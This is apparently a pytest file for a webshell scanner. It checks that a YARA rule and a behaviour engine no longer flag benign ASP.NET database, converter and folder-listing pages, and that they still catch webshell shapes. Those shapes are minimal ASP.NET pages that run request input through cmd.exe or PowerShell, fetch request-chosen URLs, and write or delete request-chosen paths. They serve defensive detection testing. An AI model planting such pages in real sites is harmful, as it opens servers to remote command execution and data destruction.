"""False positives found on real benign ASP.NET applications nobody here had seen (issue 14, helper B1).

A broad benign set (``/tmp/benign12``, never in the project; BENCHMARKS.md, "False positives on unseen
benign applications") was scanned on first sight. Each shape below is a benign page reproduced from one
of those false positives, written for these tests (no line is copied from the applications), next to
the shell shape that must stay found. Nothing is compiled or run.

``EXT_WEBSHELL_Process_Exec`` (``data/rules/webshells.yar``): its process strings were a ``$p*`` set,
which YARA also fills with ``$page`` - so the rule asked only for a page directive, request input and
"cmd.exe" anywhere, and ``cmd.ExecuteReader()`` of an ordinary database handler contains "cmd.Exe". The
process strings are now ``$proc*`` and "cmd.exe" must stand as a whole word.

Behaviour analysis (A2's engine, fixed in eb17207 on B1's requests): ``CommandType.Text`` is no posted
control value, ``new Uri(x)`` fetches nothing, a writer over an outbound request's body writes no file; and
(565f2c4, 4cf6380, aa9bdb7) a FileInfo/DirectoryInfo that only lists writes nothing, a fixed converter fed a
posted file's own name is no launcher, a value rejected unless digits only is no command.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from extriage.detections.webfiles import content

from .rule_tables import Page, RuleCase, behaviour_sinks, rule_tables

PROCESS_EXEC = "EXT_WEBSHELL_Process_Exec"

#: Shells that run the request's command through cmd.exe: found before the change, found after it.
COMMAND_SHELLS: list[Page] = [
    (
        "cs-process-start-cmd-c",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Form["c"]);\n'
        "}\n</script>",
    ),
    (
        "cs-startinfo-full-path",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\nusing System.Diagnostics;\n'
        "public class H : IHttpHandler {\n"
        "    public void ProcessRequest(HttpContext context) {\n"
        '        var i = new ProcessStartInfo(@"C:\\Windows\\System32\\cmd.exe");\n'
        '        i.Arguments = "/k " + context.Request.QueryString["q"];\n'
        "        i.UseShellExecute = false;\n        Process.Start(i);\n    }\n"
        "    public bool IsReusable { get { return false; } }\n}",
    ),
    (
        "vb-new-process-powershell",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(ByVal s As Object, ByVal e As EventArgs)\n"
        "    Dim p As New System.Diagnostics.Process()\n"
        '    p.StartInfo.FileName = "powershell"\n'
        '    p.StartInfo.Arguments = Request("a")\n    p.Start()\nEnd Sub\n</script>',
    ),
]

#: Benign handlers of the same kind as the false positives: database code whose command object is
#: named ``cmd`` (``cmd.ExecuteReader``), one of them also starting a fixed converter program.
BENIGN_PAGES: list[Page] = [
    (
        "thumbnail-from-database",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Thumb" %>\nusing System;\nusing System.Web;\n'
        "public class Thumb : IHttpHandler {\n"
        "    public void ProcessRequest(HttpContext context) {\n"
        '        var conn = new System.Data.SqlClient.SqlConnection("Data Source=.;Initial Catalog=Pics");\n'
        '        var cmd = new System.Data.SqlClient.SqlCommand("select Img from Pics where Id=@id", conn);\n'
        '        cmd.Parameters.AddWithValue("@id", context.Request.QueryString["id"]);\n'
        "        conn.Open();\n        var rdr = cmd.ExecuteReader();\n"
        '        if (rdr.Read()) { context.Response.ContentType = "image/jpeg";\n'
        '            context.Response.BinaryWrite((byte[])rdr["Img"]); }\n        conn.Close();\n    }\n'
        "    public bool IsReusable { get { return false; } }\n}",
    ),
    (
        "vb-report-sqlcmd",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(ByVal s As Object, ByVal e As EventArgs)\n"
        '    Dim sqlcmd As New System.Data.SqlClient.SqlCommand("select Name from Report where Year=@y", con)\n'
        '    sqlcmd.Parameters.AddWithValue("@y", Request.QueryString("year"))\n'
        "    grid.DataSource = sqlcmd.ExecuteReader()\n    grid.DataBind()\nEnd Sub\n</script>",
    ),
    (
        "video-converter-with-database",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Upload_Click(object s, EventArgs e) {\n"
        '    var cmd = new System.Data.SqlClient.SqlCommand("insert into Clips(Title) values(@t)", con);\n'
        '    cmd.Parameters.AddWithValue("@t", Request.Form["title"]);\n    cmd.ExecuteNonQuery();\n'
        "    var p = new System.Diagnostics.Process();\n"
        '    p.StartInfo.FileName = Server.MapPath("~/bin/converter.exe");\n'
        '    p.StartInfo.Arguments = "-i in.avi out.mp4";\n    p.Start();\n}\n</script>',
    ),
]

CASES: list[RuleCase] = [(PROCESS_EXEC, COMMAND_SHELLS, BENIGN_PAGES)]

(
    test_command_shell_is_found,
    test_benign_database_page_is_not_a_command_shell,
    test_rule_needs_a_server_page,
) = rule_tables(CASES)


# --- behaviour analysis: misreadings fixed by A2 (eb17207) on B1's requests, kept here as B1's reproductions


#: (case, file name, benign page, the sink it must not raise)
BEHAVIOUR_BENIGN: list[tuple[str, str, str, str]] = [
    (
        "parameterised-query-commandtype-text",
        "Grid.aspx.cs",
        "using System;\nusing System.Data;\nusing System.Data.SqlClient;\n"
        "public partial class Grid : System.Web.UI.Page\n{\n"
        "    protected void Page_Load(object sender, EventArgs e)\n    {\n"
        "        SqlConnection con = new SqlConnection(connectionString);\n"
        '        SqlCommand cmd = new SqlCommand("select Name from Student where Id=@p1", con);\n'
        "        cmd.CommandType = CommandType.Text;\n"
        '        cmd.Parameters.AddWithValue("@p1", Request.QueryString["id"]);\n'
        "        SqlDataAdapter da = new SqlDataAdapter(cmd);\n"
        "        da.Fill(new DataSet());\n    }\n}\n",
        "sql-text",
    ),
    (
        "uri-parsed-for-a-help-text",
        "Help.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nstring Binding;\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    Binding = Request.QueryString["bnd"];\n    Label1.Text = Describe(Binding);\n}\n'
        "string Describe(string location) {\n"
        '    string req = "";\n    req += "POST " + new Uri(location).AbsolutePath + "\\n";\n'
        "    return req;\n}\n</script>\n",
        "http-out",
    ),
    (
        "request-body-of-a-proxied-call",
        "Relay.ashx",
        '<%@ WebHandler Language="C#" Class="Relay" %>\nusing System.IO;\nusing System.Net;\nusing System.Web;\n'
        "public class Relay : IHttpHandler {\n"
        "    public void ProcessRequest(HttpContext context) {\n"
        '        string data = context.Request["data"];\n'
        '        var request = (HttpWebRequest)WebRequest.Create(context.Request["u"]);\n'
        '        request.Method = "POST";\n'
        "        using (var w = new StreamWriter(request.GetRequestStream())) { w.Write(data); }\n"
        '        context.Response.Write("ok");\n    }\n'
        "    public bool IsReusable { get { return false; } }\n}\n",
        "file-write",
    ),
]

#: requests 3-5, fixed by A2 in 565f2c4, 4cf6380, aa9bdb7: a FileInfo/DirectoryInfo that only lists, a fixed
#: converter fed a posted file's own name (App_Code), a request value rejected unless digits only
BEHAVIOUR_BENIGN += [
    (
        "folder-listing-under-a-root",
        "Folders.aspx.cs",
        "using System;\n"
        "using System.IO;\n"
        "\n"
        "public partial class Folders : System.Web.UI.Page\n"
        "{\n"
        "    protected DirectoryInfo folder = null;\n"
        '    protected string root = "";\n'
        '    protected string sub = "";\n'
        "\n"
        "    protected void Page_Load(object sender, EventArgs e)\n"
        "    {\n"
        '        root = "~\\\\shared\\\\";\n'
        '        sub = Request.QueryString["dir"];\n'
        "        if (sub == null)\n"
        '            sub = "";\n'
        "        string virtualPath = root + sub;\n"
        "        string physical = Server.MapPath(virtualPath);\n"
        "        folder = new DirectoryInfo(physical);\n"
        "        Listing.DataSource = folder.GetFiles();\n"
        "        Listing.DataBind();\n"
        "    }\n"
        "}\n",
        "file-write",
    ),
    (
        "converter-fed-the-uploads-name",
        "App_Code/VideoTool.cs",
        "using System.Diagnostics;\n"
        "using System.IO;\n"
        "using System.Web;\n"
        "using System.Web.UI.WebControls;\n"
        "\n"
        "public class VideoTool\n"
        "{\n"
        "    public static string ClientName(FileUpload upload)\n"
        "    {\n"
        '        return upload.PostedFile.FileName.Substring(upload.PostedFile.FileName.LastIndexOf("\\\\") + 1);\n'
        "    }\n"
        "\n"
        "    public static string SavedPath(FileUpload upload)\n"
        "    {\n"
        "        return Path.Combine(HttpContext.Current.Server.MapPath(Settings.VideoFolder), ClientName(upload));\n"
        "    }\n"
        "\n"
        "    public static void Convert(FileUpload upload)\n"
        "    {\n"
        "        upload.PostedFile.SaveAs(SavedPath(upload));\n"
        "        Process proc = new Process();\n"
        '        proc.StartInfo.FileName = HttpContext.Current.Server.MapPath(Settings.VideoFolder) + "\\\\tools\\\\converter.exe";\n'
        '        proc.StartInfo.Arguments = "-i \\"" + SavedPath(upload) + "\\" -r 15 out.flv";\n'
        "        proc.StartInfo.UseShellExecute = false;\n"
        "        proc.Start();\n"
        "        proc.WaitForExit();\n"
        "    }\n"
        "}\n",
        "process",
    ),
    (
        "converter-upload-saved-under-configured-folder",
        "App_Code/VideoTool.cs",
        "using System.Diagnostics;\n"
        "using System.IO;\n"
        "using System.Web;\n"
        "using System.Web.UI.WebControls;\n"
        "\n"
        "public class VideoTool\n"
        "{\n"
        "    public static string ClientName(FileUpload upload)\n"
        "    {\n"
        '        return upload.PostedFile.FileName.Substring(upload.PostedFile.FileName.LastIndexOf("\\\\") + 1);\n'
        "    }\n"
        "\n"
        "    public static string SavedPath(FileUpload upload)\n"
        "    {\n"
        "        return Path.Combine(HttpContext.Current.Server.MapPath(Settings.VideoFolder), ClientName(upload));\n"
        "    }\n"
        "\n"
        "    public static void Convert(FileUpload upload)\n"
        "    {\n"
        "        upload.PostedFile.SaveAs(SavedPath(upload));\n"
        "        Process proc = new Process();\n"
        '        proc.StartInfo.FileName = HttpContext.Current.Server.MapPath(Settings.VideoFolder) + "\\\\tools\\\\converter.exe";\n'
        '        proc.StartInfo.Arguments = "-i \\"" + SavedPath(upload) + "\\" -r 15 out.flv";\n'
        "        proc.StartInfo.UseShellExecute = false;\n"
        "        proc.Start();\n"
        "        proc.WaitForExit();\n"
        "    }\n"
        "}\n",
        "file-write",
    ),
    (
        "digits-only-guard-before-git",
        "Sync.ashx",
        '<%@ WebHandler Language="C#" Class="Sync" %>\n'
        "using System.Diagnostics;\n"
        "using System.Text.RegularExpressions;\n"
        "using System.Web;\n"
        "public class Sync : IHttpHandler {\n"
        '    const string Git = @"C:\\Program Files\\Git\\cmd\\git.exe";\n'
        "    public void ProcessRequest(HttpContext context) {\n"
        '        string pr = context.Request.QueryString["pr"];\n'
        '        if (!Regex.IsMatch(pr ?? "", "^[0-9]{1,}$")) { context.Response.StatusCode = 400; return; }\n'
        '        var psi = new ProcessStartInfo(Git, string.Format("checkout pr/{0}", pr));\n'
        "        psi.UseShellExecute = false;\n"
        "        Process.Start(psi).WaitForExit();\n"
        "    }\n"
        "    public bool IsReusable { get { return false; } }\n"
        "}\n",
        "process",
    ),
]

#: (case, file name, shell, the sink it must raise)
BEHAVIOUR_SHELLS: list[tuple[str, str, str, str]] = [
    (
        "sql-console-textbox",
        "Query.aspx.cs",
        "using System;\nusing System.Data;\nusing System.Data.SqlClient;\n"
        "public partial class Query : System.Web.UI.Page\n{\n"
        "    protected void Run_Click(object sender, EventArgs e)\n    {\n"
        "        SqlCommand cmd = new SqlCommand(txtSql.Text, con);\n"
        "        cmd.CommandType = CommandType.Text;\n"
        "        new SqlDataAdapter(cmd).Fill(new DataSet());\n    }\n}\n",
        "sql-text",
    ),
    (
        "fetch-request-uri",
        "Fetch.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    string target = Request.QueryString["u"];\n'
        "    Response.Write(new System.Net.WebClient().DownloadString(new Uri(target)));\n}\n</script>\n",
        "http-out",
    ),
    (
        "write-request-path",
        "Save.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    using (var w = new System.IO.StreamWriter(Request.Form["p"])) { w.Write(Request.Form["c"]); }\n'
        "}\n</script>\n",
        "file-write",
    ),
]


#: the shells beside requests 3-5
BEHAVIOUR_SHELLS += [
    (
        "delete-request-folder",
        "Delete.aspx.cs",
        "using System;\n"
        "using System.IO;\n"
        "public partial class D : System.Web.UI.Page\n"
        "{\n"
        "    protected void Page_Load(object sender, EventArgs e)\n"
        "    {\n"
        '        DirectoryInfo folder = new DirectoryInfo(Server.MapPath(Request.QueryString["d"]));\n'
        "        folder.Delete(true);\n"
        "    }\n"
        "}\n",
        "file-write",
    ),
    (
        "launcher-request-arguments",
        "Launch.aspx",
        '<%@ Page Language="C#" %>\n'
        '<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        "    var p = new System.Diagnostics.Process();\n"
        '    p.StartInfo.FileName = Server.MapPath("~/App_Data/") + "tool.exe";\n'
        '    p.StartInfo.Arguments = Request.Form["args"];\n'
        "    p.StartInfo.UseShellExecute = false;\n"
        "    p.Start();\n"
        "}\n"
        "</script>\n",
        "process",
    ),
    (
        "no-guard-before-git",
        "Sync.ashx",
        '<%@ WebHandler Language="C#" Class="Sync" %>\n'
        "using System.Diagnostics;\n"
        "using System.Web;\n"
        "public class Sync : IHttpHandler {\n"
        '    const string Git = @"C:\\Program Files\\Git\\cmd\\git.exe";\n'
        "    public void ProcessRequest(HttpContext context) {\n"
        '        string pr = context.Request.QueryString["pr"];\n'
        "        if (string.IsNullOrEmpty(pr)) { context.Response.StatusCode = 400; return; }\n"
        '        var psi = new ProcessStartInfo(Git, string.Format("checkout {0}", pr));\n'
        "        psi.UseShellExecute = false;\n"
        "        Process.Start(psi).WaitForExit();\n"
        "    }\n"
        "    public bool IsReusable { get { return false; } }\n"
        "}\n",
        "process",
    ),
]


@pytest.mark.parametrize(
    ("case", "name", "page", "sink"), BEHAVIOUR_BENIGN, ids=[b[0] for b in BEHAVIOUR_BENIGN]
)
def test_benign_shape_raises_no_such_sink(
    tmp_path: Path, params: content.ContentParams, case: str, name: str, page: str, sink: str
) -> None:
    assert sink not in behaviour_sinks(tmp_path, f"{case}/{name}", page, params)


@pytest.mark.parametrize(
    ("case", "name", "page", "sink"), BEHAVIOUR_SHELLS, ids=[s[0] for s in BEHAVIOUR_SHELLS]
)
def test_shell_shape_still_raises_its_sink(
    tmp_path: Path, params: content.ContentParams, case: str, name: str, page: str, sink: str
) -> None:
    assert sink in behaviour_sinks(tmp_path, f"{case}/{name}", page, params)
